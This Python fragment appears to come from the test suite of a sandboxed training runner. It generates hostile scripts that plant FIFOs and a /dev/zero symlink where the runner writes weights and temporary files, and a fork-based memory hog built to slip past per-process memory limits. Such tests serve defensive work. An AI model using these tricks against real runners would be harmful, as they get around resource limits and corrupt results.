    return _script(_PLANT_RACING)


def planted_in_model_scratch() -> str:
    """The model processes (imported while training runs) plant a FIFO where the runner will place
    the weights, a symlink to /dev/zero, and FIFOs at the names of the runner's temporary file."""
    return _script(_PLANT_MODEL)


# --- children that together exceed the memory limit ----------------------------------------------------

_MEMORY = r'''
import os as _os
import time as _time

CHILDREN = {children}
EACH = int({gib} * (1 << 30))
_honest_train = train


def train(model, loader, log):
    """Fork CHILDREN processes that each allocate and touch EACH bytes, under the per-process
    address-space limit each, and keep them alive while training goes on."""
    pids = []
    for _ in range(CHILDREN):
        pid = _os.fork()
        if pid == 0:
            try:
                block = bytearray(EACH)
                for i in range(0, EACH, 4096):
                    block[i] = 1
                _time.sleep(120)
            finally:
                _os._exit(0)
        pids.append(pid)
    _time.sleep(3.0)
    _honest_train(model, loader, log)
'''


def memory_hog(children: int = 3, gib: float = 1.5) -> str:
    return _script(_MEMORY.replace("{children}", str(children)).replace("{gib}", repr(gib)))
